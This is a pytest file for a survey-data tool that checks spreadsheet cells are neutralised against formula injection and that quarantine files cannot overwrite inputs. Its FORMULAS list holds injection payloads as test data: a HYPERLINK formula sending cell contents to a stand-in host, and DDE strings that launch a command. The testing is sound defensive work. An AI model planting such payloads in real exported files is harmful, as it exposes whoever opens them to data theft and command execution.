"""Spreadsheets the tool writes cannot run formulas; the quarantine file lands only where it may."""
import csv
import subprocess
import sys

import openpyxl
import pandas as pd
import pytest

from osallisuus.errors import OutputPathError
from osallisuus.fileio import neutralise_cell, write_csv, write_xlsx
from osallisuus.settings import load_settings
from osallisuus.validation import validate
from tests.conftest import canonical_row

FORMULAS = ['=HYPERLINK("http://x.example/?d="&A1,"klikkaa")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("text", FORMULAS)
def test_formula_text_gets_a_leading_quote(text):
    assert neutralise_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["-1.5", "+3", "-2", "ok = fine", "", 5, -1.5, None])
def test_numbers_and_plain_text_stay(value):
    assert neutralise_cell(value) == value


def test_csv_and_xlsx_read_back_with_their_own_readers(tmp_path):
    frame = pd.DataFrame({"text": FORMULAS, "score": [-1.5, 2.0, -3.0, 0.5, 1.0, -0.25]})
    write_csv(frame, tmp_path / "x.csv")
    with open(tmp_path / "x.csv", encoding="utf-8", newline="") as fh:
        rows = list(csv.reader(fh, delimiter=";"))
    assert [r[0] for r in rows[1:]] == ["'" + f for f in FORMULAS]
    assert [r[1] for r in rows[1:]] == ["-1.5", "2.0", "-3.0", "0.5", "1.0", "-0.25"]   # numbers stay numbers
    write_xlsx({"data": frame}, tmp_path / "x.xlsx")
    ws = openpyxl.load_workbook(tmp_path / "x.xlsx")["data"]
    cells = list(ws.iter_rows(min_row=2, values_only=True))
    assert [c[0] for c in cells] == ["'" + f for f in FORMULAS]
    assert all(ws.cell(row=r, column=1).data_type == "s" for r in range(2, 8))     # text, not formulas
    assert [c[1] for c in cells] == [-1.5, 2.0, -3.0, 0.5, 1.0, -0.25]


def _data(tmp_path, rows):
    path = tmp_path / "vastaukset.csv"
    path.write_text(pd.DataFrame(rows).to_csv(sep=";", index=False), encoding="utf-8")
    return path


def _settings(tmp_path):
    (tmp_path / "osallisuus.yaml").write_text("paths:\n  quarantine: karanteeni\n", encoding="utf-8")
    return load_settings(tmp_path / "osallisuus.yaml")


def test_quarantine_csv_neutralises_formulas_in_ids_and_text(tmp_path):
    bad = [canonical_row(respondent_id=FORMULAS[0], region="Mars"),
           canonical_row(respondent_id="R9", value="11", text=FORMULAS[1]),
           canonical_row(respondent_id="R8", value="-1", text=FORMULAS[2])]
    q = tmp_path / "out" / "q.csv"
    report = validate(_data(tmp_path, [canonical_row(respondent_id="R1"), *bad]), quarantine=q,
                      settings=_settings(tmp_path))
    assert report.n_quarantined == 3
    with open(q, encoding="utf-8", newline="") as fh:
        rows = list(csv.DictReader(fh, delimiter=";"))
    assert rows[0]["respondent_id"] == "'" + FORMULAS[0]
    assert [r["text"] for r in rows[1:]] == ["'" + FORMULAS[1], "'" + FORMULAS[2]]
    assert rows[2]["value"] == "-1"                                # a number as read, not quoted
    assert not any(v.startswith(("=", "+", "@")) for r in rows for v in r.values())


def test_bare_quarantine_name_goes_into_paths_quarantine(tmp_path):
    settings = _settings(tmp_path)
    report = validate(_data(tmp_path, [canonical_row(region="Mars")]), quarantine="karanteeni.csv", settings=settings)
    assert report.quarantine_path == (tmp_path / "karanteeni" / "karanteeni.csv").resolve()
    assert report.quarantine_path.is_file()
    assert not (tmp_path / "karanteeni.csv").exists()


def test_quarantine_never_overwrites_an_input(tmp_path):
    data = _data(tmp_path, [canonical_row(region="Mars")])
    before = data.read_bytes()
    with pytest.raises(OutputPathError, match="overwrite the input"):
        validate(data, quarantine=data, settings=_settings(tmp_path), lang="en")
    with pytest.raises(OutputPathError, match="inside the input folder"):
        validate(tmp_path, quarantine=tmp_path / "uusi" / "q.csv", settings=_settings(tmp_path), lang="en")
    link = tmp_path / "muu" / "linkki.csv"          # a symlink to the input is the input
    link.parent.mkdir()
    link.symlink_to(data)
    with pytest.raises(OutputPathError, match="overwrite the input"):
        validate(data, quarantine=link, settings=_settings(tmp_path), lang="en")
    assert data.read_bytes() == before


def test_earlier_quarantine_files_are_not_read_as_answers(tmp_path):
    settings = _settings(tmp_path)
    data = _data(tmp_path, [canonical_row(respondent_id="R1"), canonical_row(respondent_id="R2", region="Mars")])
    first = validate(tmp_path, quarantine="q.csv", settings=settings)
    second = validate(tmp_path, settings=settings)
    assert (first.n_input, second.n_input) == (2, 2) and data.exists()


def test_quarantine_under_a_file_is_a_clear_error(tmp_path):
    settings = _settings(tmp_path)
    data = _data(tmp_path, [canonical_row(region="Mars")])
    (tmp_path / "tiedosto").write_text("x")
    with pytest.raises(OutputPathError, match="is a file, not a folder"):
        validate(data, quarantine=tmp_path / "tiedosto" / "q.csv", settings=settings, lang="en")
    res = subprocess.run([sys.executable, "-m", "osallisuus", "--config", str(tmp_path / "osallisuus.yaml"),
                          "validate", str(data), "--quarantine", str(tmp_path / "tiedosto" / "q.csv"), "--lang", "en"],
                         capture_output=True, text=True)
    assert res.returncode == 2 and "Traceback" not in res.stderr
    assert "tiedosto" in res.stderr and "not a folder" in res.stderr
